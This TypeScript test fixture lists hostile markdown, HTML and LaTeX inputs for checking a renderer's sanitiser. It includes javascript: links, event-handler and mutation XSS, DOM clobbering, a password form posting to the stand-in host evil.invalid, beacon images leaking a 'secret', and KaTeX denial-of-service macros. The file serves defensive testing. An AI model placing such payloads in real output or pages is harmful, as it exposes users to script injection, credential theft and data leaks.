// Text that a model may be tricked into writing, or a user into pasting. Wherever it is shown, under the page’s policy
// it must not run, fetch anything from other hosts, cover the page, or lead anywhere by a scheme other than the web’s.
// A payload that runs calls `pwn()`; one that leaks requests evil.invalid.

export interface HostilePayload {
  name: string
  text: string
}

const links = [
  '[a](javascript:pwn())',
  '[a](JaVaScRiPt:pwn())',
  '[a](java\tscript:pwn())',
  '[a](&#106;avascript:pwn())',
  '[a](javascript&colon;pwn())',
  '[a](\u0001javascript:pwn())',
  '[a](data:text/html,<script>parent.pwn()</script>)',
  '[a](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4=)',
  '[a](vbscript:pwn())',
  '[a](file:///etc/passwd)',
  '[a](blob:https://evil.invalid/1)',
  '[a](//evil.invalid/protocol-relative)',
  '[a](/api/sign-out)',
  '[a](https://accounts.example.org@evil.invalid/)',
  '[a](https://user:password@evil.invalid/)',
  '<javascript:pwn()>',
  '[a][r]\n\n[r]: javascript:pwn()',
  '[a](https://evil.invalid/" onmouseover="pwn())',
  "[a](<javascript:pwn()> 'title')",
  '[a](https://evil.invalid/ "x\\" onfocus=pwn() autofocus=\\"")',
  '[![x](javascript:pwn())](javascript:pwn())',
  '[**[inner](javascript:pwn())**](https://example.org)',
]

const images = [
  '![x](https://evil.invalid/beacon.png?d=secret)',
  '![x](//evil.invalid/beacon.png)',
  '![x](data:image/svg+xml,<svg onload=pwn()>)',
  '![x](/api/files/../../evil)',
  '![x](/api/files/..%2f..%2fevil)',
  '![x][i]\n\n[i]: https://evil.invalid/ref.png',
  '[![x](https://evil.invalid/inner.png)](https://example.org)',
  '![x" onerror="pwn()](https://evil.invalid/q.png)',
]

const html = [
  '<script>pwn()</script>',
  '<ScRiPt src=https://evil.invalid/x.js></sCrIpT>',
  '<img src=x onerror=pwn()>',
  '<img src=https://evil.invalid/i.png>',
  '<img srcset="https://evil.invalid/s.png 1x">',
  '<svg onload=pwn()>',
  '<svg><script>pwn()</script></svg>',
  '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
  '<svg><image href=https://evil.invalid/svg.png /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=pwn()>#x"></use></svg>',
  '<svg><foreignObject><img src=x onerror=pwn()></foreignObject></svg>',
  '<math><mtext><mglyph><style><img src=x onerror=pwn()></style></mglyph></mtext></math>',
  '<math href="javascript:pwn()">click</math>',
  '<iframe src="javascript:parent.pwn()"></iframe>',
  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  '<iframe src=https://evil.invalid/frame></iframe>',
  '<object data="javascript:pwn()"></object>',
  '<embed src=https://evil.invalid/e.swf>',
  '<video poster=https://evil.invalid/p.png><source onerror=pwn()></video>',
  '<audio src=https://evil.invalid/a.mp3 autoplay>',
  '<body onload=pwn()>',
  '<details open ontoggle=pwn()><summary>x</summary></details>',
  '<input autofocus onfocus=pwn()>',
  '<marquee onstart=pwn()>x</marquee>',
  '<link rel=stylesheet href=https://evil.invalid/l.css>',
  '<link rel=prefetch href=https://evil.invalid/prefetch>',
  '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
  '<base href=https://evil.invalid/>',
  '<style>@import "https://evil.invalid/import.css";</style>',
  '<style>body{background:url(https://evil.invalid/bg.png)}</style>',
  '<div style="background:url(https://evil.invalid/div.png)">x</div>',
  '<ul style="list-style-image:url(https://evil.invalid/li.png)"><li>x</ul>',
  '<div style="position:fixed;inset:0;z-index:99999;background:red">cover</div>',
  '<div popover id=p>x</div><button popovertarget=p>open</button>',
  '<dialog open>cover</dialog>',
  '<template><script>pwn()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>"></noscript>',
  '<p title="<!--"><img src=x onerror=pwn()>-->',
  '<!--><img src=x onerror=pwn()>-->',
  '<![CDATA[<img src=x onerror=pwn()>]]>',
  '<?xml version="1.0"?><img src=x onerror=pwn()>',
  '<a href="javascript:pwn()">x</a>',
  '<a ping=https://evil.invalid/ping href=https://example.org>x</a>',
  '<x onclick=pwn() tabindex=0 id=x>x</x>',
]

const mutation = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>',
  '<svg></p><style><a id="</style><img src=1 onerror=pwn()>">',
  '<noembed><img title="</noembed><img src onerror=pwn()>"></noembed>',
  '<select><style></select><img src=x onerror=pwn()></style>',
  '<xmp><p title="</xmp><svg/onload=pwn()>">',
]

const forms = [
  '<form action=https://evil.invalid/><input name=password type=password><button>Sign in</button></form>',
  '<form id=a></form><button form=a formaction="javascript:pwn()">x</button>',
  '<input type=image src=https://evil.invalid/button.png>',
  '<isindex action="javascript:pwn()">',
  '<button onclick=pwn()>Allow</button>',
]

const clobbering = [
  '<img name=harness><img id=root>',
  '<a id=document><a id=document name=cookie href=cid:x>',
  '<form id=body><input name=appendChild></form>',
  '<iframe name=location src=about:blank></iframe>',
  '# <a id="root"></a>root',
]

const formulas = [
  String.raw`$\href{javascript:pwn()}{x}$`,
  String.raw`$\url{javascript:pwn()}$`,
  String.raw`$\includegraphics{https://evil.invalid/math.png}$`,
  String.raw`$\htmlStyle{background:url(https://evil.invalid/style.png)}{x}$`,
  String.raw`$\htmlId{root}{x}\htmlClass{md}{x}\htmlData{x=1}{x}$`,
  String.raw`$\rule{9999em}{9999em}$`,
  String.raw`$$\kern-9999em \raisebox{-9999em}{x}\kern-9em\kern-9em\kern-9em\kern-9em\kern-9em$$`,
  String.raw`$$\def\a{\a\a}\a$$`,
  String.raw`$$\def\a#1{#1#1#1#1#1#1#1#1}\a{\a{\a{\a{\a{\a{\a{x}}}}}}}$$`,
  String.raw`$$\newcommand{\b}{${'x'.repeat(500)}}${String.raw`\b`.repeat(400)}$$`,
  `$$${'{'.repeat(1800)}x${'}'.repeat(1800)}$$`,
  String.raw`$$\text{<img src=x onerror=pwn()>}$$`,
  String.raw`$\color{red;background:url(https://evil.invalid/color.png)}x$`,
  String.raw`\(\unicode{x3c}script\)`,
]

const codeAndTables = [
  '```html\n<script>pwn()</script>\n<img src=x onerror=pwn()>\n```',
  '```"onmouseover="pwn()\nx\n```',
  '```<img/src=x/onerror=pwn()>\nx\n```',
  '```__proto__\nx\n```',
  '```constructor\nx\n```',
  '`<img src=x onerror=pwn()>`',
  '| <img src=x onerror=pwn()> | b |\n|---|---|\n| <script>pwn()</script> | [x](javascript:pwn()) |',
  '| a |\n|---|\n| ![x](https://evil.invalid/cell.png) |',
  '```svg\n<svg onload=pwn()>\n```',
  '```mermaid\ngraph TD; A["<img src=https://evil.invalid/m.png>"] --> B\nclick A "javascript:pwn()"\n```',
  '~~~js"><svg/onload=pwn()>\nx\n~~~',
]

const entities = [
  '&lt;script&gt;pwn()&lt;/script&gt;',
  '&#x3c;img src=x onerror=pwn()&#x3e;',
  '&#60;svg onload=pwn()&#62;',
  '&amp;lt;img src=x onerror=pwn()&amp;gt;',
  '&copy; &amp; &nbsp; &NotARealEntity; &lt;',
  '[a](java&#115;cript:pwn())',
  '[a](javascript&#58;pwn())',
  '&#0;&#xD800;&#x110000;&#x3c;b>',
]

const confusing = [
  '\u202Etxt.exe\u202C [\u202Egro.elpmaxe](https://evil.invalid/)',
  `Z${'\u0301\u0302\u0303'.repeat(300)}algo`,
  `${'> '.repeat(500)}deep`,
  `${'- '.repeat(500)}deep`,
  `${'*a **b '.repeat(500)}deep`,
  'x'.repeat(10_000),
  '[^1]\n\n[^1]: <script>pwn()</script>',
  '<br onclick=pwn()><br/><br\n><BR>',
  '[a]: https://evil.invalid/\n[__proto__]: javascript:pwn()\n\n[a] [__proto__] [constructor]',
]

const categories = {
  links,
  images,
  html,
  mutation,
  forms,
  clobbering,
  formulas,
  codeAndTables,
  entities,
  confusing,
}

export const hostilePayloads: readonly HostilePayload[] = Object.entries(categories).flatMap(
  ([category, texts]) => texts.map((text, index) => ({ name: `${category} ${index + 1}`, text })),
)
